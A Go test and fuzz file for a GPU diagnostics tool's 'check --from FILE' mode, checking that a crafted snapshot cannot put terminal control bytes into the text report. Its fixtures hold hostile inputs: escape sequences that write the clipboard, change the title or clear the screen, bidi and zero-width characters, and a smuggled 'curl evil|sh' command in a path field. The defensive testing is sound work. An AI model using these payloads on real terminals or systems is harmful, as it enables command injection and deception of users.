package checks

import (
	"bytes"
	"testing"

	"github.com/gputop/gputop/model"
	"github.com/gputop/gputop/model/safe"
)

// Issue 11 items 1 and 2 for `gputop check --from FILE`: facts recorded in
// a crafted snapshot go through the loader, today's rules judge them, and
// the plain text report must carry no byte a terminal acts on.

const hostileFacts = "\x1b]52;c;ZWNobyBQV05FRAo=\x07\x1b]0;PWNED\x07\x1b[2J\u009b31m\u202eevil\u200b"

func hostileFactsSnapshot(s string) []byte {
	f := model.Facts{
		Host:         "h" + s,
		KernelModule: model.KernelModuleFacts{Loaded: true, Version: "580.95.05" + s, VersionText: "NVRM " + s},
		NVMLLibrary:  model.LibraryFacts{Found: true, Path: "/lib/libnvidia-ml.so.1" + s, Version: "570.1" + s},
		CUDALibrary:  model.LibraryFacts{Found: true, Path: "/lib/libcuda.so.1" + s, Version: "570.1" + s},
		NVCC:         model.NVCCFacts{Found: true, Path: "/tmp/x;curl evil|sh;" + s, Version: "13.0" + s, Output: "release" + s},
		CUDALink:     model.CUDAInstall{Path: "/usr/local/cuda", Exists: true, Resolved: "/usr/local/cuda-13.0" + s, Version: "12.4" + s},
		Toolkits:     []model.CUDAInstall{{Path: "/usr/local/cuda-12.4" + s, Exists: true, Version: "12.4" + s}},
		CuDNN:        []model.CuDNNInstall{{Header: "/usr/include/cudnn_version.h" + s, Origin: "system" + s, Version: "9.1.0" + s}},
		Torch:        []model.TorchInstall{{Path: "/venv/torch/version.py" + s, Version: "2.9.0+cu128" + s, CUDA: "12.8" + s}},
		PCI: model.PCIFacts{Readable: true, Devices: []model.PCIDevice{{BDF: "0000:18:00.0" + s, Vendor: 0x10de, Device: 0x2330,
			Class: 0x030200, Driver: "nvidia" + s}}},
		DevNodes:  model.DevNodeFacts{Nodes: []model.DevNode{{Path: "/dev/nvidia0" + s, Error: "denied" + s}}},
		Container: model.ContainerFacts{Detected: true, Kind: "docker" + s, Evidence: "/.dockerenv" + s},
		Env:       map[string]string{"CUDA_LAUNCH_BLOCKING" + s: "1" + s, "CUDA_VISIBLE_DEVICES": "0" + s},
		NVML: model.NVMLFacts{Source: "nvml" + s, Opened: true, DriverVersion: "580.95.05" + s,
			GPUs: []model.GPUFacts{{Info: model.GPUInfo{Index: 0, Name: "H100" + s, BusID: "00000000:18:00.0" + s}}}},
	}
	snap := model.NewSnapshot(model.SnapshotInput{Facts: f, System: model.System{Host: "h"}})
	var buf bytes.Buffer
	snap.WriteJSON(&buf)
	return buf.Bytes()
}

// checkFromText is `gputop check --from FILE` without colour.
func checkFromText(t *testing.T, data []byte) (string, bool) {
	snap, err := model.DecodeSnapshot(bytes.NewReader(data), 0)
	if err != nil {
		return "", false
	}
	rs := Evaluate(snap.Facts)
	var out bytes.Buffer
	if err := WriteText(&out, snap.Facts, rs, false); err != nil {
		t.Fatal(err)
	}
	return out.String(), true
}

func TestCheckFromHostileSnapshot(t *testing.T) {
	out, ok := checkFromText(t, hostileFactsSnapshot(hostileFacts))
	if !ok {
		t.Fatal("refused a valid (hostile) snapshot")
	}
	if safe.HasEscape(out) || safe.HasBidiOrZeroWidth(out) {
		t.Fatalf("check output carries a control character:\n%q", out)
	}
}

func FuzzCheckFromHostile(f *testing.F) {
	f.Add(hostileFacts)
	f.Add("\u009b2J")
	f.Add("a\nb")
	f.Fuzz(func(t *testing.T, s string) {
		out, ok := checkFromText(t, hostileFactsSnapshot(s))
		if !ok {
			return
		}
		if safe.HasEscape(out) || safe.HasBidiOrZeroWidth(out) {
			t.Fatalf("check output carries a control character:\n%q", out)
		}
	})
}
